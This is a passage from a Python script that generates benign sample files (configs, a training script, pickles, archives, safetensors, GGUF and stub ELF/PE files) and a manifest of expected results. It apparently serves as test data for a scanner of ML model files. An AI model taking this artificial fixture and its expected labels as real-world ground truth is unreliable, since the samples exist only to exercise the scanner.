    add("benign_hydra.yaml", "defaults:\n  - model: llama\n  - _self_\noptimizer:\n  lr: 3.0e-4\n  betas: !!python/tuple [0.9, 0.95]\n"
        "trainer:\n  devices: 8\n  precision: bf16-mixed\n")
    add("benign_train.sh", "#!/bin/bash\nset -euo pipefail\nwget https://example.org/data.tar.gz -O data.tar.gz\n"
        "torchrun --nproc_per_node 8 train.py --config configs/base.yaml 2>&1 | tee train.log\n")
    add("benign_state_dict_p2.pkl", pickle.dumps(OrderedDict([("fc.weight", [0.5] * 64), ("fc.bias", [0.0] * 8)]), protocol=2))
    add("benign_state_dict_p4.pkl", pickle.dumps({"epoch": 3, "state": OrderedDict(w=[1.0, 2.0]), "names": {"a", "b"}}, protocol=4))
    add("benign_set_p2.pkl", pickle.dumps({1, 2, 3}, protocol=2))
    for name, data in _benign_numpy_pickles():
        add(name, data)
    add("benign_legacy_torch.pt", _legacy_torch())
    add("benign_pytorch_zip.pt", _zip({
        "archive/data.pkl": pickle.dumps(OrderedDict([("w", 1)]), protocol=2),
        "archive/byteorder": b"little", "archive/data/0": _rand_floats(4096, 2), "archive/version": b"3\n"}))
    add("benign_npz.npz", _zip({"arr_0.npy": b"\x93NUMPY\x01\x00v\x00{'descr': '<f4', 'fortran_order': False, 'shape': (16,), }"
                                + b" " * 47 + b"\n" + _rand_floats(16, 4)}, zipfile.ZIP_DEFLATED))
    add("benign_tensor_floats.bin", _rand_floats(1 << 18, 1))
    add("benign_model.safetensors", _safetensors({"embed": _rand_floats(4096, 8), "head": _rand_floats(1024, 9)},
                                                 {"format": "pt"}))
    add("benign_model.gguf", _gguf_like())
    add("benign_archive.tar", _tar({"model/pytorch_model.bin": _zip({"archive/data.pkl": pickle.dumps(OrderedDict(a=1), protocol=2)}),
                                    "model/config.json.gz": gzip.compress(json.dumps(CONFIG).encode(), mtime=0),
                                    "model/README.md": README.encode()}))
    add("benign_config.json.gz", gzip.compress(json.dumps(CONFIG).encode(), mtime=0))
    add("benign_elf_itself.so", _elf_header() + b"\x00" * 4096)
    add("benign_pe_itself.dll", _pe_header() + b"\x00" * 4096)
    return out


def manifest(samples: list[Sample] | None = None) -> dict[str, list[str]]:
    return {s.name: sorted(s.expect) for s in (samples or build_samples())}


def main(argv: list[str] | None = None) -> int:
    import argparse

    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", required=True, help="directory to write the samples and manifest.json into")
    args = ap.parse_args(argv)
    os.makedirs(args.out, exist_ok=True)
    samples = build_samples()
    for s in samples:
        with open(os.path.join(args.out, s.name), "wb") as fh:
            fh.write(s.data)
    with open(os.path.join(args.out, "manifest.json"), "w") as fh:
        json.dump(manifest(samples), fh, indent=2, sort_keys=True)
    print(f"{len(samples)} samples written to {args.out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
